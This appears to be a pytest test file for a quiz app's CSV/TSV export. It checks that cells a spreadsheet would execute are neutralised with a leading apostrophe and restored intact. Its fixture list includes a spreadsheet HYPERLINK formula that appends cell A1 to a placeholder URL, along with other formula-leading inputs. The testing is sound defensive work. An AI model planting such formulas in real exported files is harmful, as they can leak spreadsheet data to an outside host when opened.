"""Tables of cards: what a spreadsheet could run is guarded, and every text comes back."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from quizapp.exchange.table import BOM, COLUMNS, Row, guarded, unguarded, write_table

RUN = ['=HYPERLINK("http://x/?"&A1,"ok")', "+1", "-2", "@x", "\t=1", "\r=1", "--dry-run=client", "'=1", "''@x"]
HARMLESS = ["", "'", "'tis", "kubectl get pods -A", "a=b", "5", "\n=1"]


@pytest.mark.parametrize("cell", RUN)
def test_what_a_spreadsheet_would_run_begins_with_an_apostrophe_and_comes_back_without(cell: str) -> None:
    assert guarded(cell) == f"'{cell}"
    assert unguarded(guarded(cell)) == cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_what_is_harmless_stays_as_it_is(cell: str) -> None:
    assert guarded(cell) == unguarded(cell) == cell


@given(st.text(alphabet="'=+-@\t\r\nab ", max_size=6))
def test_every_text_comes_back_and_none_is_run(cell: str) -> None:
    assert unguarded(guarded(cell)) == cell
    assert guarded(cell)[:1] not in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_a_table_has_a_header_and_a_row_for_each_card(delimiter: str) -> None:
    rows = [Row(front='a "quoted", odd\tfront', back="two\nlines", id="x-1", tags=("one", "two"), section=("A", "B"))]
    text = write_table(rows, delimiter)
    header, row = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    assert tuple(header) == COLUMNS
    assert row == ["x-1", 'a "quoted", odd\tfront', "two\nlines", "", "A > B", "one two", "", ""]


def test_a_byte_order_mark_is_there_when_asked_for() -> None:
    assert write_table([], ",", bom=True) == BOM + write_table([], ",")
    assert not write_table([], ",").startswith(BOM)
